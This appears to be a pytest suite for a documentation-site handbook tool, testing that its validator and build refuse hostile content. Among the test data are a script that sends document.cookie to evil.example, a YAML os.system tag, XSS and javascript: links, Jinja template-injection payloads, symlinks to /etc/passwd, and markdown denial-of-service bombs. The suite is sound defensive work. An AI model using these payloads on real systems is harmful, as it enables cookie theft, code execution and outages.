"""Hostile and broken input: refused with a precise message, nothing published, nothing run."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from conftest import ENV, Project, article_text, assert_refused, page

AL = "curriculum/competencies/active-listening.yml"
AL_ES = "curriculum/competencies/active-listening.es.yml"
CASE = "cases/warehouse-finishing-sentences.md"
RUBRIC = "rubrics/coaching-cycle.yml"
FRAMEWORK = "curriculum/framework.yml"
RUBRIC_ID = "id: coaching-cycle\n"
DEBRIEF = "## Debrief {#debrief}\n"


@dataclass(frozen=True)
class Attack:
    name: str
    file: str
    prepare: Callable[[Project], None]
    line: Callable[[Project], int]
    field: str
    message: str

    def __str__(self) -> str:
        return self.name


def edit(file: str, old: str, new: str) -> Callable[[Project], None]:
    return lambda project: project.edit(file, old, new)


def line_of(file: str, text: str) -> Callable[[Project], int]:
    return lambda project: project.line_of(file, text)


def at(line: int) -> Callable[[Project], int]:
    return lambda project: line


def symlink(target: str, link: str) -> Callable[[Project], None]:
    def make(project: Project) -> None:
        os.symlink(target, project.path(link))
    return make


def fifo(relative: str) -> Callable[[Project], None]:
    return lambda project: os.mkfifo(project.path(relative))


def write(relative: str, text: str) -> Callable[[Project], None]:
    return lambda project: project.write(relative, text)


def copy(source: str, target: str) -> Callable[[Project], None]:
    return lambda project: project.write(target, project.path(source).read_text("utf-8"))


def in_body(text: str) -> Callable[[Project], None]:
    return edit(CASE, DEBRIEF, f"{DEBRIEF}\n{text}\n")


def replace_bytes(file: str, old: bytes, new: bytes) -> Callable[[Project], None]:
    return lambda project: project.path(file).write_bytes(project.path(file).read_bytes().replace(old, new, 1))


def byte_line_of(file: str, text: bytes) -> Callable[[Project], int]:
    """For a file that is no longer UTF-8."""
    return lambda project: project.path(file).read_bytes().split(text)[0].count(b"\n") + 1


def body_line_at(file: str, offset: int) -> Callable[[Project], int]:
    """The line holding the body's character ``offset`` (the body starts after the front matter)."""
    def line(project: Project) -> int:
        lines = project.path(file).read_text("utf-8").splitlines()
        first, left = lines.index("---", 1) + 2, offset  # the body's first line
        for number, text in enumerate(lines[first - 1:], first):
            left -= len(text) + 1
            if left < 0:
                return number
        raise AssertionError("the body is shorter than that")
    return line


def nth_body_heading(file: str, n: int) -> Callable[[Project], int]:
    def line(project: Project) -> int:
        lines = project.path(file).read_text("utf-8").splitlines()
        first = lines.index("---", 1) + 2
        return [number for number, text in enumerate(lines, 1) if number >= first and text.startswith("#")][n - 1]
    return line


ESCAPED_NAME = "cases/\\x1b[31mred\\x1b[0m.md"  # as messages print it
# Markdown that once rendered for minutes, or not at all (the Python-Markdown figures are in
# handbook/checks/limits.py); each is refused by a bounded-work cap, in seconds.
NESTED_LIST = "- " * 400 + "x"
ANGLE_FRAGMENTS = "< <a " * 18_000  # some 90 KB
OPEN_BRACKETS = "[" * 30 + " " + ("word " * 15 + "\n") * 2_000  # each '[' would be matched against 160 KB
EMPTY_HEADINGS = "#\n" * 8_000
LONG_BODY = ("A case body that goes on and on. " * 4 + "\n\n") * 200
BOMBS = ("list nested 400 deep", "'<' fragments", "open brackets before a long paragraph", "8,000 headings",
         "case body too long", "bracket bomb")


ATTACKS = [
    Attack("script tag in a case body", CASE, edit(CASE, "## Debrief {#debrief}\n", "## Debrief {#debrief}\n\n"
           "<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n"),
           line_of(CASE, "<script>"), "body", "raw HTML <script> is not allowed"),
    Attack("javascript link in a summary", AL,
           edit(AL, "summary: >-\n", "summary: >-\n  [Read more](javascript:alert(1))\n"),
           line_of(AL, "summary:"), "summary", "the link 'javascript:alert(1)' is not allowed"),
    Attack("event handler through attribute lists", CASE,
           edit(CASE, "## Debrief {#debrief}\n", "## Debrief {#debrief}\n\nHello\n{: onmouseover=\"alert(1)\" }\n"),
           line_of(CASE, "onmouseover"), "body", "the HTML attribute 'onmouseover' on <p> is not allowed"),
    Attack("iframe in a look-for", RUBRIC, edit(RUBRIC, "    look_fors:\n      emerging:\n        - The agreement",
                                                "    look_fors:\n      emerging:\n        - <iframe src=\"https://evil.example\">"
                                                "</iframe> The agreement"),
           line_of(RUBRIC, "<iframe"), "criteria[0].look_fors.emerging[0]", "raw HTML <iframe> is not allowed"),
    Attack("data URL image in a translation", AL_ES, edit(AL_ES, "summary: >-\n",
                                                          "summary: >-\n  ![x](data:text/html;base64,PHNjcmlwdD4=)\n"),
           line_of(AL_ES, "summary:"), "summary", "'data:text/html;base64,PHNjcmlwdD4=' is not allowed"),
    Attack("style that is not an alignment", AL, edit(AL, "title: Active listening",
                                                      'title: "<span style=\\"background: url(x)\\">Active</span>"'),
           line_of(AL, "title:"), "title", "the HTML attribute 'style' on <span> is not allowed"),
    Attack("YAML alias", RUBRIC, edit(RUBRIC, RUBRIC_ID, RUBRIC_ID + "anchored: &t 14\nextra: *t\n"),
           line_of(RUBRIC, "extra: *t"), "extra", "aliases (*name) are not allowed"),
    Attack("python object tag", AL, edit(AL, "title: Active listening",
                                         "title: !!python/object/apply:os.system [\"touch /tmp/pwned\"]"),
           line_of(AL, "title:"), "title", "the tag 'tag:yaml.org,2002:python/object/apply:os.system' is not allowed"),
    Attack("custom local tag", RUBRIC, edit(RUBRIC, RUBRIC_ID, RUBRIC_ID + "secret: !include secrets.yml\n"),
           line_of(RUBRIC, "secret:"), "secret", "the tag '!include' is not allowed"),
    Attack("merge key", FRAMEWORK, edit(FRAMEWORK, "certification:\n", "certification:\n  <<: {extra: 1}\n"),
           line_of(FRAMEWORK, "<<:"), "certification", "merge keys (<<) are not allowed"),
    Attack("control character", AL, edit(AL, "title: Active listening", "title: \"Active\\a listening\""),
           line_of(AL, "title:"), "title", "control or bidirectional-override characters are not allowed"),
    Attack("bidirectional override", CASE, edit(CASE, "title: Finishing", "title: \u202eFinishing"),
           line_of(CASE, "title:"), "title", "control or bidirectional-override characters are not allowed"),
    Attack("two YAML documents", RUBRIC, edit(RUBRIC, RUBRIC_ID, RUBRIC_ID + "---\nid: another\n"),
           line_of(RUBRIC, "---"), "", "only one YAML document is allowed per file"),
    Attack("very deep nesting", AL, edit(AL, "related: [powerful-questioning,", "related: " + "[" * 60 + "x" + "]" * 60
                                         + "\nold_related: [powerful-questioning,"),
           line_of(AL, "related: [[["), "related", "nested more than 32 levels deep"),
    Attack("huge number", RUBRIC, edit(RUBRIC, "- score: 1\n", "- score: 1" + "0" * 400 + "\n"),
           line_of(RUBRIC, "- score: 1000"), "scale[0].score", "would be read as a number"),
    Attack("infinity", RUBRIC, edit(RUBRIC, "- score: 1\n", "- score: .inf\n"),
           line_of(RUBRIC, "- score: .inf"), "scale[0].score", "'.inf' would be read as the number inf"),
    Attack("macros switched on from a case", CASE,
           edit(CASE, "level: emerging", "level: emerging\nrender_macros: true"),
           line_of(CASE, "render_macros"), "render_macros", "unknown field"),
    Attack("front matter never closed", CASE, lambda p: p.path(CASE).write_text(
           p.path(CASE).read_text("utf-8").replace("---\n\n## Scenario", "\n\n## Scenario", 1), "utf-8"),
           at(1), "", "the front matter is not closed"),
    Attack("symbolic link to a system file", "cases/passwd.md", symlink("/etc/passwd", "cases/passwd.md"),
           at(1), "", "symbolic links are not allowed in content"),
    Attack("dangling symbolic link", "cases/ghost.md", symlink("/nonexistent/ghost.md", "cases/ghost.md"),
           at(1), "", "symbolic links are not allowed in content"),
    Attack("symbolic link in docs", "docs/secrets.md", symlink("/etc/hostname", "docs/secrets.md"),
           at(1), "", "symbolic links are not allowed in content"),
    Attack("symbolic link to a folder", "rubrics/more", symlink("/etc", "rubrics/more"),
           at(1), "", "symbolic links are not allowed in content"),
    Attack("oversized file", "cases/huge.md", lambda p: p.write("cases/huge.md", "---\n" + "x" * 600_000),
           at(1), "", "content files are limited to 512 KiB"),
    Attack("not a content file", "cases/notes.txt", lambda p: p.write("cases/notes.txt", "draft"),
           at(1), "", "unexpected file here: content files in this folder end in .md"),
    Attack("latin-1 text", CASE, lambda p: p.path(CASE).write_bytes(
           p.path(CASE).read_bytes().replace(b"Finishing", "Fin\xe9shing".encode("latin-1"))),
           at(3), "", "not UTF-8 text (byte 0xe9)"),
    Attack("bracket bomb", CASE, edit(CASE, "## Debrief {#debrief}\n", "## Debrief {#debrief}\n\n" + "[" * 20_000 + "x"
                                      + "]" * 20_000 + "(y)\n"),
           line_of(CASE, "[[[["), "body", "more than 500 '[' in one paragraph"),
    Attack("list nested 400 deep", CASE, in_body(NESTED_LIST), line_of(CASE, "- - - -"), "body",
           "lists or quotes nested more than 32 levels deep"),
    Attack("'<' fragments", CASE, in_body(ANGLE_FRAGMENTS), line_of(CASE, "< <a"), "body",
           "more than 100 '<' in one text"),
    Attack("open brackets before a long paragraph", CASE, in_body(OPEN_BRACKETS), line_of(CASE, "[[[["), "body",
           "too many '[' without a matching ']' in one paragraph"),
    Attack("8,000 headings", CASE, in_body(EMPTY_HEADINGS), nth_body_heading(CASE, 101), "body",
           "more than 100 headings in one text"),
    Attack("case body too long", CASE, in_body(LONG_BODY), body_line_at(CASE, 20_000), "body",
           "a field or case body may have at most 20,000"),
    Attack("list nested deep in a summary", AL, edit(AL, "summary: >-\n", "summary: >-\n  " + "- " * 100 + "x\n"),
           line_of(AL, "summary:"), "summary", "lists or quotes nested more than 32 levels deep"),
    Attack("angle brackets in a look-for", RUBRIC, edit(RUBRIC, "      emerging:\n        - The agreement",
                                                        "      emerging:\n        - " + "<b " * 150 + "The agreement"),
           line_of(RUBRIC, "<b <b"), "criteria[0].look_fors.emerging[0]", "more than 100 '<' in one text"),
    Attack("named pipe among the cases", "cases/stuck.md", fifo("cases/stuck.md"),
           at(1), "", "not a regular file but a named pipe (FIFO)"),
    Attack("named pipe among the pages", "docs/stuck.md", fifo("docs/stuck.md"),
           at(1), "", "not a regular file but a named pipe (FIFO)"),
    Attack("named pipe for a stylesheet", "docs/program/stuck.css", fifo("docs/program/stuck.css"),
           at(1), "", "not a regular file but a named pipe (FIFO)"),
    Attack("draft in a folder of its own", "cases/drafts",
           write("cases/drafts/new.md", "---\nid: new\nlevel: bogus\n---\n"),
           at(1), "", "unexpected folder here: content files sit directly in cases/"),
    Attack("folder next to the competencies", "curriculum/extra", write("curriculum/extra/notes.yml", "x: 1\n"),
           at(1), "", "unexpected folder here: the only folder curriculum/ may hold is competencies/"),
    Attack("stray file next to the framework", "curriculum/notes.yml", write("curriculum/notes.yml", "x: 1\n"),
           at(1), "", "unexpected file here: the files in curriculum/ are framework.yml, releases.yml"),
    Attack("framework saved as .yaml", "curriculum/framework.yaml", copy(FRAMEWORK, "curriculum/framework.yaml"),
           at(1), "", "unexpected file here: the files in curriculum/ are framework.yml, releases.yml"),
    Attack("escape sequence in a file name", ESCAPED_NAME, copy(CASE, "cases/\x1b[31mred\x1b[0m.md"),
           at(1), "", "the name holds control or bidirectional characters"),
    Attack("NUL byte in a case body", CASE, in_body("ab\0c"), line_of(CASE, "ab\0c"), "",
           "a NUL byte is not allowed in text"),
    Attack("NUL byte in a title", AL, edit(AL, "title: Active listening", "title: Active\0 listening"),
           line_of(AL, "title:"), "", "a NUL byte is not allowed in text"),
    Attack("raw control character in YAML", RUBRIC, edit(RUBRIC, RUBRIC_ID, RUBRIC_ID + "extra: a\x07b\n"),
           line_of(RUBRIC, "extra:"), "", "the character U+0007 is not allowed in YAML"),
    Attack("latin-1 in a hand-written page", "docs/governance.md",
           replace_bytes("docs/governance.md", b"# Governance", "# Governance caf\xe9".encode("latin-1")),
           byte_line_of("docs/governance.md", "caf\xe9".encode("latin-1")), "", "not UTF-8 text (byte 0xe9)"),
]


@pytest.mark.parametrize("attack", ATTACKS, ids=str)
def test_hostile_input_is_refused_precisely(project: Project, tmp_path: Path, attack: Attack) -> None:
    attack.prepare(project)
    started = time.monotonic()
    assert_refused(project, tmp_path / "site", attack.file, attack.line(project), attack.field, attack.message)
    assert time.monotonic() - started < 60


def validate_within(project: Project, seconds: float, *args: str) -> subprocess.CompletedProcess[str]:
    """``handbook validate``, given ``seconds`` to finish (a hang fails the test, it does not stall it)."""
    return subprocess.run([sys.executable, "-m", "handbook.cli", "validate", "-f", str(project.path("mkdocs.yml")),
                           *args], capture_output=True, text=True, env=ENV, timeout=seconds)


@pytest.mark.parametrize("attack", [a for a in ATTACKS if a.name in BOMBS], ids=str)
def test_markdown_bombs_are_refused_by_validate_in_seconds(project: Project, attack: Attack) -> None:
    attack.prepare(project)

    checked = validate_within(project, 30)

    assert checked.returncode == 1, checked.stdout
    assert "Traceback" not in checked.stderr
    located = f"{attack.file}:{attack.line(project)}:1: {attack.field}: "
    assert any(entry.startswith(located) and attack.message in entry for entry in checked.stderr.splitlines()), (
        checked.stderr)


def test_output_stays_bounded_however_many_problems(project: Project) -> None:
    """One case naming 25,000 unknown competencies once wrote gigabytes: each message listed
    every known id. Now a message lists ten, and a run prints its first 500 problems."""
    source = project.path("curriculum/competencies/accountability.yml").read_text("utf-8")
    for number in range(20):
        project.write(f"curriculum/competencies/extra-{number}.yml",
                      source.replace("id: accountability", f"id: extra-{number}", 1))
    unknown = ", ".join(f"unknown-{number}" for number in range(25_000))
    project.edit(CASE, "competencies: [active-listening, goal-setting]", f"competencies: [{unknown}]")

    text = validate_within(project, 120)
    report = validate_within(project, 120, "--format", "json")

    assert text.returncode == 1 and report.returncode == 1
    assert len(text.stderr.encode()) < 1_000_000 and len(report.stdout.encode()) < 1_000_000
    lines = text.stderr.splitlines()
    assert len(lines) == 502, lines[-3:]
    first = next(line for line in lines if "unknown-0'" in line)
    assert first.endswith("expected one of: accountability, active-listening, adaptability, ethical-boundaries, "
                          "extra-0, extra-1, extra-10, extra-11, extra-12, extra-13 ... and 19 more"), first
    data = json.loads(report.stdout)
    total = data["total"]
    assert total >= 25_000 and data["omitted"] == total - 500 and len(data["problems"]) == 500
    assert lines[-2:] == [f"... and {total - 500:,} more problems ({total:,} in all)",
                          f"{total} problems found in the content."]


def test_a_long_value_is_quoted_only_in_part(project: Project) -> None:
    project.edit(CASE, "competencies: [active-listening, goal-setting]", f"competencies: [{'x' * 200_000}]")

    checked = validate_within(project, 60)

    assert checked.returncode == 1
    assert len(checked.stderr) < 20_000
    assert "unknown competency 'xxxx" in checked.stderr and "more characters)" in checked.stderr


def test_control_characters_in_a_file_name_never_reach_the_terminal(project: Project) -> None:
    project.write("cases/\x1b]0;owned\x07\x1b[2J.md", project.path(CASE).read_text("utf-8"))
    project.write("docs/\u202eevil.md", "# Evil\n")

    text = validate_within(project, 60)
    report = validate_within(project, 60, "--format", "json")

    assert text.returncode == 1 and report.returncode == 1
    for output in (text.stdout + text.stderr, report.stdout + report.stderr):
        assert "\x1b" not in output and "\x07" not in output and "\u202e" not in output
    assert "cases/\\x1b]0;owned\\x07\\x1b[2J.md:1:1: (file): the name holds control" in text.stderr
    assert "docs/\\u202eevil.md:1:1: (file): the name holds control" in text.stderr
    assert {p["path"] for p in json.loads(report.stdout)["problems"]} == {"cases/\x1b]0;owned\x07\x1b[2J.md",
                                                                         "docs/\u202eevil.md"}


def test_nul_byte_is_reported_at_its_line_and_column(project: Project) -> None:
    project.edit(CASE, DEBRIEF, f"{DEBRIEF}\nA pause\0 here.\n")
    project.edit(AL, "title: Active listening", "title: Active\0 listening")

    checked = validate_within(project, 60)

    assert checked.returncode == 1
    assert (f"{CASE}:{project.line_of(CASE, 'A pause')}:8: (file): a NUL byte is not allowed in text"
            in checked.stderr), checked.stderr
    assert f"{AL}:{project.line_of(AL, 'title:')}:14: (file): a NUL byte is not allowed in text" in checked.stderr


def test_page_in_another_encoding_is_refused_by_every_command(project: Project) -> None:
    page_file = project.path("docs/governance.md")
    page_file.write_bytes(page_file.read_bytes().replace(b"# Governance", "# Governance caf\xe9".encode("latin-1")))
    line = byte_line_of("docs/governance.md", b"caf\xe9")(project)
    expected = f"docs/governance.md:{line}:17: (file): not UTF-8 text (byte 0xe9)"

    checked = validate_within(project, 60)
    status = project.validate_i18n("status")

    for result in (checked, status):
        assert result.returncode == 1
        assert "Traceback" not in result.stderr
        assert expected in result.stderr, result.stderr


def test_template_syntax_in_contributor_text_renders_literally(project: Project, tmp_path: Path) -> None:
    payloads = ["{{ config.extra }}", "{% for x in range(3) %}loop{% endfor %}",
                "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ environment }}"]
    project.edit(CASE, "## Debrief {#debrief}\n", "## Debrief {#debrief}\n\n" + "\n\n".join(payloads) + "\n")
    project.edit(AL, "summary: >-\n", "summary: >-\n  {{ macros_info() }} {% include 'mkdocs.yml' %}\n")
    project.edit(AL_ES, "title: Escucha activa", "title: \"Escucha {{ config.site_name }}\"")

    assert project.build(tmp_path / "site").returncode == 0

    case_text = article_text(page(tmp_path / "site", "cases/warehouse-finishing-sentences"))
    for payload in payloads[:2] + payloads[3:]:
        assert payload in case_text
    assert "loop loop loop" not in case_text
    # Markdown makes the dunders bold, but no template ever evaluated them.
    assert "{{ ''." in case_text and "subclasses" in case_text and "<class" not in case_text
    assert "{{ macros_info() }} {% include 'mkdocs.yml' %}" in article_text(
        page(tmp_path / "site", "competencies/active-listening"))
    assert page(tmp_path / "site", "es/competencies/active-listening").select_one("article h1").get_text(
        strip=True).rstrip("¶") == "Escucha {{ config.site_name }}"


def test_titles_are_escaped_in_the_page_title_nav_and_meta(project: Project, tmp_path: Path) -> None:
    project.edit(AL, "title: Active listening", "title: Listening & \"quoting\" 'well'")
    assert project.build(tmp_path / "site").returncode == 0
    soup = page(tmp_path / "site", "competencies/active-listening")
    assert soup.title.get_text().startswith("Listening & \"quoting\" 'well'")
    assert soup.select_one("article h1").get_text(strip=True).rstrip("¶") == "Listening & \"quoting\" 'well'"
    nav = soup.select_one("nav.md-nav--primary").get_text(" ")
    assert "Listening & \"quoting\" 'well'" in nav
    raw = (tmp_path / "site/competencies/active-listening/index.html").read_text("utf-8")
    assert "<title>Listening &amp; \"quoting\" 'well' - " in raw


def test_markup_shown_as_code_in_a_title_stays_text_in_the_page_title(project: Project, tmp_path: Path) -> None:
    project.edit(AL, "title: Active listening", "title: 'Listening `<img src=x onerror=alert(1)>` well'")
    assert project.build(tmp_path / "site").returncode == 0
    raw = (tmp_path / "site/competencies/active-listening/index.html").read_text("utf-8")
    assert "<img src=x" not in raw
    assert "<title>Listening &lt;img src=x onerror=alert(1)&gt; well - " in raw


def test_snippets_if_enabled_cannot_reach_outside_docs(project: Project, tmp_path: Path) -> None:
    project.edit("mkdocs.yml", "markdown_extensions:\n", "markdown_extensions:\n  - pymdownx.snippets:\n"
                 "      base_path: [\".\", \"/\"]\n      check_paths: false\n")
    project.edit("docs/governance.md", "# Governance\n", "# Governance\n\n--8<-- \"mkdocs.yml\"\n")

    built = project.build(tmp_path / "site")

    assert built.returncode == 1
    assert "mkdocs.yml" in built.stderr
    assert not (tmp_path / "site").exists()


@pytest.mark.parametrize("expression, complaint", [
    ("{{ ''.__class__.__mro__ }}", "unsafe"),
    ("{{ cycler.__init__.__globals__ }}", "unsafe"),
    ("{{ config.site_name }}", "config"),
    ("{{ environment }}", "environment"),
])
def test_macros_in_hand_written_pages_cannot_reach_python_or_configuration(project: Project, tmp_path: Path,
                                                                          expression: str, complaint: str) -> None:
    text = project.path("docs/assessment.md").read_text("utf-8")
    project.path("docs/assessment.md").write_text(text.replace("\n## ", f"\n{expression}\n\n## ", 1), "utf-8")
    site = tmp_path / "site"

    built = project.build(site)

    assert built.returncode != 0  # mkdocs-macros ends a failed page with exit status 100
    assert complaint in built.stderr
    assert not site.exists()
    assert [p.name for p in tmp_path.iterdir()] == ["project"], "a staging folder was left behind"

